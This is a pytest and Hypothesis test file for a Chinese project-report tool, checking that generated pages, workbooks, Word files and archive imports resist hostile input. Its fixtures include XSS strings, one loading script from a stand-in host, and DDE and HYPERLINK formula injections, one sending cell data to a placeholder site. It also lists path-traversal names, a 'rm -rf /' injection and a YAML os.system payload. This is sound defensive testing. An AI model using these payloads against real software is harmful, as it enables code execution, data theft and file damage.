"""Hostile texts, names and files: refused in one line, or shown as the plain text that they are.

What is refused within which bounds of time and memory is in test_corpus_forms_bounds.py, what comes over HTTP in
test_ui_http.py, what a browser makes of such texts in test_ui_browser.py.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from functools import cache, partial
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from fuzz_targets import TARGETS, refused
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from corpus import accounts, store
from corpus.forms import read_form, read_form_bytes, write_form
from corpus.forms.excel_out import xlsx_bytes
from corpus.forms.html_out import html_bytes
from corpus.forms.prose import read_prose
from corpus.forms.word_out import docx_bytes
from corpus.library import Library
from corpus.store_files import export_store, import_store
from scoring.check import check
from scoring.errors import InputError
from scoring.numbers.reader import read
from scoring.report import Report
from scoring.report_file import parse_report, render_report
from scoring.scheme import load
from scoring.score import score
from ui.page import api
from ui.page.calls import CALLS, answer
from ui.page.desk import Desk, open_desk
from ui.page.files import write
from ui.page.login import login_page, users_page
from ui.page.messages import everything
from ui.page.transfers import Transfers
from ui.review_pack import review_pack

ROOT = Path(__file__).parent.parent
SAMPLE = parse_report((ROOT / "corpus" / "sample_project.yaml").read_text("utf-8"))
NOW = datetime(2026, 1, 5, 9, 30, tzinfo=UTC)
SCRIPTS = (
    "<script>alert(1)</script>",
    "</td></table><script src=//e.example/x></script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" \'',
    "</title></style><svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>点此</a>",
    "]]><x/><!--",
    "&lt;script&gt;&#x3c;b&#62;",
    "<iframe srcdoc='<script>alert(1)</script>'>",
)
FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://e.example/"&A1,"点此")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "\u200b=1+1",
    "\x01=1+1",
    "'=1+1",
)
FIELDS = (
    *(
        "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
        "_x003D_1+1",
        "_x000D_",
        "{{7*7}}",
        "${7*7}",
        "%s{0}",
    ),
)


def everywhere(text: str) -> Report:
    """The sample with ``text`` wherever a report holds one, and with a draft's record that tells of it too."""
    rows = tuple(
        row.model_copy(
            update=dict.fromkeys(
                ("name", "explanation", "target_value", "actual_value", "deviation_reason", "note"), text
            )
        )
        for row in SAMPLE.indicators[:2]
    )
    metric = SAMPLE.metrics[0].model_copy(
        update={"name": text, "unit": text, "target": text, "source": text, "aliases": (text,)}
    )
    record = {
        "句子": [{"句": "检查1225家次", "数据": [text], "目标": [text], "往年段落": [text]}],
        "写作": text,
    }
    record |= {"模型": text, "提示词版本": text}
    report = SAMPLE.model_copy(
        update={
            **dict.fromkeys(("project", "budget_unit", "office", "sector", "overall_goal", "grade"), text),
            "targets": (text, text),
            "indicators": rows,
            "metrics": (metric, *SAMPLE.metrics[1:3]),
            "achievements": f"{text}检查1225家次，{text}1252家次。",
            "problems": text,
            "measures": text,
            "draft_record": {"主要绩效": record},
        }
    )
    return parse_report(render_report(report))


class Tags(HTMLParser):
    """The tags and attributes of a page, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {f"{tag} {name}" for name, _ in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def pack_of(report: Report) -> str:
    return review_pack(report, check(report, load(report.scheme)), NOW)


PAGES = {"the form": lambda report: html_bytes(report, True).decode(), "the review pack": pack_of}


@pytest.mark.parametrize("kind", PAGES)
def test_every_page_written_has_the_same_tags_whatever_the_texts(kind: str) -> None:
    usual = Tags(PAGES[kind](everywhere("检查")))
    for text in (*SCRIPTS, *FORMULAS, *FIELDS):
        page = Tags(PAGES[kind](everywhere(text)))
        assert page.tags <= usual.tags, text
        assert page.attributes <= usual.attributes, text
        assert text.strip("\x01\u200b\t ") in page.text


def cells(data: bytes) -> Iterator[tuple[str, Any]]:
    for sheet in load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            yield from ((str(cell.value), cell) for cell in row if cell.value is not None)


@pytest.mark.parametrize("text", [*FORMULAS, *SCRIPTS[:2], *FIELDS[1:3]])
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(text: str) -> None:
    data = xlsx_bytes(everywhere(text), True)
    held = list(cells(data))
    assert len([value for value, _ in held if text.strip("\x01\u200b\t ") in value]) > 20
    for value, cell in held:
        assert (cell.data_type, cell.hyperlink) == ("s", None), value
        assert cell.quotePrefix is value.startswith(("=", "+", "-", "@", "\t")), value
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            content = archive.read(name).decode("utf-8")
            assert not re.search(r"<f[ >]|<hyperlink|externalLink|ddeLink", content), name


@pytest.mark.parametrize("text", [*FIELDS, *SCRIPTS[:2], *FORMULAS[:3]])
def test_a_word_file_has_no_field_or_link_but_its_page_number(text: str) -> None:
    with zipfile.ZipFile(io.BytesIO(docx_bytes(everywhere(text), True))) as archive:
        instructions = []
        for name in archive.namelist():
            content = archive.read(name)
            if name.endswith((".xml", ".rels")):
                parsed = ElementTree.fromstring(content)
                instructions += [one.text for one in parsed.iter() if one.tag.endswith("}instrText")]
                assert not [
                    one.tag for one in parsed.iter() if one.tag.endswith(("}hyperlink", "}fldSimple"))
                ]
                assert not [one for one in parsed.iter() if one.get("TargetMode") == "External"]
    assert instructions == ["PAGE"]


@pytest.mark.parametrize("suffix", [".docx", ".xlsx"])
def test_a_metric_with_such_a_name_comes_back_under_it(suffix: str, tmp_path: Path) -> None:
    for text in (SCRIPTS[0], FORMULAS[0], FORMULAS[5], FIELDS[2]):
        write_form(everywhere(text), tmp_path / f"x{suffix}", provenance=True)
        assert read_form(tmp_path / f"x{suffix}").metrics[0].name == text


def test_the_pages_of_accounts_show_a_name_as_text() -> None:
    usual = Tags(login_page("密码", "甲", "7") + users_page([], accounts.ALONE, "甲", "乙"))
    for text in SCRIPTS:
        page = Tags(login_page(text, text) + users_page([], accounts.ALONE, text, text))
        assert page.tags <= usual.tags
        assert page.attributes <= usual.attributes


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    with Library(tmp_path_factory.mktemp("library")) as opened:
        yield opened


@pytest.fixture
def desk(tmp_path: Path, library: Library) -> Desk:
    opened = open_desk(store.open_store(tmp_path), library, lambda: NOW, accounts.ALONE, 0, lambda: SAMPLE)
    opened.transfers = Transfers()
    return opened


def tags_of(tree: Any) -> Iterator[str]:
    """The tags of the nodes in what the page is told, with the names of their attributes."""
    if isinstance(tree, dict):
        for one in tree.values():
            yield from tags_of(one)
    elif isinstance(tree, list):
        if len(tree) > 1 and isinstance(tree[0], str) and isinstance(tree[1], dict):
            yield from (tree[0], *(f"{tree[0]} {name}" for name in tree[1]))
        for one in tree:
            yield from tags_of(one)


def test_the_page_is_told_the_same_tags_whatever_the_texts(desk: Desk) -> None:
    desk.keep(everywhere("检查"))
    usual = set(tags_of(everything(desk)))
    assert len(usual) > 20
    for text in (SCRIPTS[0], SCRIPTS[2], FORMULAS[0], FIELDS[4]):
        desk.keep(everywhere(text))
        told = everything(desk)
        assert not [one for one in set(tags_of(told)) - usual if not one.startswith("line")]  # of a chart
        json.dumps(told).encode()


NAMES = (
    *(
        "../../../x",
        "/etc/passwd",
        "..",
        ".",
        "C:\\x",
        "..\\..\\x",
        "x\0y",
        "\x1b[2J",
        "a/b",
        "~",
        "$HOME",
        "a" * 900,
    ),
    *(
        "😀" * 300,
        "𠮷" * 300,
        "CON",
        "x\r\ny",
        "\u202excod.exe",
        "<script>",
        '"; rm -rf /',
        "*?|:",
        "-rf",
        " ",
    ),
)


@pytest.mark.parametrize("kind", [".docx", ".xlsx", ".html", ".yaml", "pack.html"])
def test_a_projects_name_leads_no_export_elsewhere(desk: Desk, kind: str) -> None:
    folder = desk.transfers.folder(desk.account.id)
    for name in NAMES if kind == ".yaml" else NAMES[::6]:
        desk.keep(parse_report(render_report(SAMPLE.model_copy(update={"project": f"{name}项目"}))))
        made, problem = write(desk, kind)
        assert (problem, Path(made).is_file()) == ("", True)
        assert Path(made).resolve().parent.parent == folder.resolve()
        assert not re.search(r'[\\/:*?"<>|\s\x00-\x1f]', Path(made).name)


@pytest.mark.parametrize(
    "kind", ["/../../x.docx", "../x.yaml", "/etc/x.html", "", ".exe", ".docx\0", ".docx/../../x.xlsx"]
)
def test_a_kind_that_is_a_path_is_refused(desk: Desk, kind: str, tmp_path: Path) -> None:
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(InputError):
        write(desk, kind)
    assert sorted(tmp_path.rglob("*")) == before


def test_a_form_is_not_written_beyond_a_folder_that_is_there(tmp_path: Path) -> None:
    for path in (
        tmp_path / "no" / ".." / ".." / "x.docx",
        tmp_path / ("a" * 300 + ".docx"),
    ):
        with pytest.raises(InputError):
            write_form(SAMPLE, path)
    assert list(tmp_path.iterdir()) == []


def test_the_library_tells_of_a_file_by_its_name_alone(library: Library, tmp_path: Path) -> None:
    names = ("<script>alert(1)</script>.yaml", "=1+1.yaml", "..yaml", "a\nb.yaml", "${x}.txt")
    paths = [tmp_path / name.replace("/", "∕") for name in names]
    for path in paths:
        path.write_text("不是报告", "utf-8")
    (tmp_path / "link.yaml").symlink_to(tmp_path)
    done = library.add([*paths, tmp_path / "link.yaml", tmp_path / "没有.yaml"])
    assert len(done.failed) >= len(paths)
    assert not done.added
    for _, problem in done.failed:
        assert "\n" not in problem


def archived(tmp_path: Path, name: str, content: bytes = b"x", beside: bool = True) -> Path:
    """An export of a store with a part called ``name`` put in."""
    engine = store.open_store(tmp_path / "from")
    store.create(engine, render_report(SAMPLE), "张三", NOW, "甲")
    path = tmp_path / "all.zip"
    path.unlink(missing_ok=True)
    export_store(engine, path)
    with zipfile.ZipFile(path, "a" if beside else "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return path


@pytest.mark.parametrize(
    "name",
    [
        "../../climbed.yaml",
        "/tmp/ziping-climbed.yaml",
        "reports/../../climbed",
        "reports/000001/../x",
        "C:\\x",
    ],
)
def test_a_part_of_an_archive_is_written_nowhere(tmp_path: Path, name: str) -> None:
    path = archived(tmp_path, name)
    before = sorted(tmp_path.rglob("*"))
    target = store.open_store(tmp_path / "to")
    refused(partial(import_store, target, path, NOW))
    made = {one.relative_to(tmp_path).parts[0] for one in set(tmp_path.rglob("*")) - set(before)}
    assert made <= {"to"}
    assert not Path("/tmp/ziping-climbed.yaml").exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("reports/000001/report.yaml", b"0" * (21 << 20)),
        ("reports/000001/report.yaml", b"owner: [" + b"[" * 5000),
        ("reports/000001/report.yaml", b"!!python/object/apply:os.system ['touch /tmp/ziping-run']"),
        ("reports/000001/report.yaml", b"a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]"),
        ("reports/000001/report.yaml", b"\xff\xfe\x00"),
        ("reports/999999/report.yaml", b"{}"),
        ("trail.jsonl", b"{" * 100_000),
        ("trail.jsonl", b"\xff\n"),
    ],
    ids=[
        "too large",
        "brackets",
        "python",
        "aliases",
        "no text",
        "another number",
        "deep trail",
        "trail no text",
    ],
)
def test_an_archive_of_anything_is_refused_in_one_line(tmp_path: Path, name: str, content: bytes) -> None:
    path = archived(tmp_path, name, content, beside=False)
    target = store.open_store(tmp_path / "to")
    assert refused(partial(import_store, target, path, NOW)) is None
    assert not Path("/tmp/ziping-run").exists()


LARGE = {
    "a text": lambda: f"{HEAD}主要绩效: {'字' * 2_000_001}\n",
    "all texts": lambda: HEAD + "".join(f"备注{n}: {'字' * 900_000}\n" for n in range(6)),
    "rows": lambda: HEAD + "指标:\n" + "- {一级指标: 产出, 指标名称: 甲}\n" * 5001,
    "metrics": lambda: HEAD + "数据:\n" + "".join(f"- {{名称: 数{n}}}\n" for n in range(2001)),
    "targets": lambda: HEAD + "年度目标:\n" + "- 甲\n" * 2001,
    "a number": lambda: HEAD + f"当年预算数: {'9' * 100_000}\n",
    "an exponent": lambda: HEAD + "当年预算数: 1e999999999\n",
    "a depth": lambda: HEAD + "备注: " + "\n".join(f"{'  ' * n}- " for n in range(200)),
    "a key": lambda: HEAD + f"{'键' * 200_000}: 甲\n? {'键' * 2000}\n",
    "a scheme": lambda: HEAD.replace("闵行-2020", "闵" * 100_000),
    "a year": lambda: HEAD.replace("年度: 2020", f"年度: {'2' * 100_000}"),
}
HEAD = "方案: 闵行-2020\n年度: 2020\n项目名称: 甲\n预算单位: 乙\n"


@pytest.mark.parametrize("what", LARGE)
def test_what_is_too_large_is_refused_in_one_line(what: str) -> None:
    assert refused(lambda: scored(LARGE[what]())) is None


def scored(text: str) -> Any:
    report = parse_report(text)
    return score(report, load(report.scheme))


SCALARS = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30)
JSON = st.recursive(
    SCALARS, lambda one: st.lists(one, max_size=5) | st.dictionaries(st.text(max_size=9), one, max_size=5)
)
LABELS = st.sampled_from(sorted({*Report.labels().values(), *SAMPLE.to_mapping()}))


@settings(max_examples=30)
@given(st.dictionaries(LABELS, JSON, max_size=4), st.sampled_from(["数据", "指标", "年度目标", "忽略"]), JSON)
def test_a_report_of_any_values_is_refused_or_checked(fields: dict[str, Any], listed: str, row: Any) -> None:
    mapping = {**SAMPLE.to_mapping(), **fields}
    rows = mapping.get(listed)
    mapping[listed] = [*(rows if isinstance(rows, list) else []), row]

    def checked() -> None:
        report = Report.from_mapping(mapping)
        json.dumps(check(report, load(report.scheme)).to_json("report"), allow_nan=False)

    refused(checked)


@settings(max_examples=30)
@given(st.data())
def test_a_damaged_report_file_is_refused_or_goes_round(data: st.DataObject) -> None:
    whole = render_report(SAMPLE)
    TARGETS["report_file"](b"\x00" + damaged(data, whole.encode()))


@cache
def real_form(name: str) -> bytes:
    if name == "a.txt":
        return (ROOT / "tests" / "forms" / "minhang.txt").read_bytes()
    return (docx_bytes if name == "a.docx" else xlsx_bytes)(everywhere("检查"), True)


def damaged(data: st.DataObject, whole: bytes) -> bytes:
    """The bytes with a few stretches of them changed, doubled, moved or left out."""
    for _ in range(data.draw(st.integers(1, 4))):
        start = data.draw(st.integers(0, len(whole)))
        end = start + data.draw(st.integers(0, 60))
        put = data.draw(
            st.binary(max_size=8)
            | st.sampled_from(
                [b"", b"\t", b"\n", b"\x00", b"\xff", whole[start:end] * 2, whole[:40], b"9" * 40]
            )
        )
        whole = whole[:start] + put + whole[end:]
    return whole


@pytest.mark.parametrize("name", ["a.txt", "a.docx", "a.xlsx"])
@settings(max_examples=30)
@given(data=st.data())
def test_a_damaged_form_is_refused_or_read(name: str, data: st.DataObject) -> None:
    changed = damaged(data, real_form(name))
    report = refused(lambda: read_form_bytes(name, changed))
    if report is not None:
        assert parse_report(render_report(report)) == report
        check(report, load(report.scheme))
    refused(lambda: read_prose(name, changed))


PARTS = {"a.docx": "word/document.xml", "a.xlsx": "xl/worksheets/sheet1.xml"}


@pytest.mark.parametrize("name", PARTS)
@settings(max_examples=30)
@given(data=st.data())
def test_a_form_with_a_damaged_part_is_refused_or_read(name: str, data: st.DataObject) -> None:
    """The archive is whole, so that the reader of the part itself is met."""
    with zipfile.ZipFile(io.BytesIO(real_form(name))) as archive:
        parts = {part: archive.read(part) for part in archive.namelist()}
    chosen = data.draw(st.sampled_from([PARTS[name], *parts]))
    parts[chosen] = damaged(data, parts[chosen])
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for part, content in parts.items():
            archive.writestr(part, content)
    refused(lambda: read_form_bytes(name, written.getvalue()))
    refused(lambda: read_prose(name, written.getvalue()))


PIECES = st.sampled_from(
    [
        *(
            "1",
            "1,",
            "1.",
            "-",
            "～",
            "1/2",
            "百分之",
            "一",
            "万",
            "亿元",
            "%",
            "个百分点",
            "家次",
            "同比增长",
            "比上年",
        ),
        *(
            "其中",
            "分别为",
            "、",
            "，",
            "。",
            "\n",
            "（",
            "”",
            "达到",
            "约",
            "余",
            "2020年",
            "第",
            "号",
            "<script>",
            "=1+1",
        ),
        *("\u202e", "\u200b", "\ud800", "\x00", "９", "①", "½", "٣", "e9", "NaN", "∞", "😀"),
    ]
)


@settings(max_examples=30)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_every_number_of_any_text_lies_where_it_says(text: str) -> None:
    end = 0
    for mention in read(text):
        assert end <= mention.start < mention.end <= len(text)
        assert mention.text == text[mention.start : mention.end]
        assert mention.value is None or mention.value.is_finite()
        end = mention.end
    report = SAMPLE.with_narrative("主要绩效", text)
    check(report, load(report.scheme))


@settings(max_examples=30)
@given(given=JSON)
def test_the_commands_for_programs_take_any_value(given: Any) -> None:
    for command in (api.score, api.check):
        refused(lambda command=command: command(given, None))  # type: ignore[misc]


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    name=st.sampled_from(sorted(CALLS)),
    arg=st.dictionaries(st.text(max_size=5), JSON, max_size=3),
    data=st.data(),
)
def test_every_call_of_the_page_takes_any_argument(
    desk: Desk, name: str, arg: dict[str, Any], data: st.DataObject
) -> None:
    keys = (
        "field",
        "value",
        "text",
        "rows",
        "grid",
        "row",
        "n",
        "name",
        "rule",
        "place",
        "reason",
        "report",
        "start",
        "key",
    )
    known = {key: data.draw(JSON) for key in data.draw(st.lists(st.sampled_from(keys), max_size=4))}
    told = answer(desk, name, {**arg, **known})
    said = json.dumps(told, ensure_ascii=False)
    assert "Traceback" not in said
    assert desk.report.project
    assert store.newest(desk.engine, desk.report_id) is not None
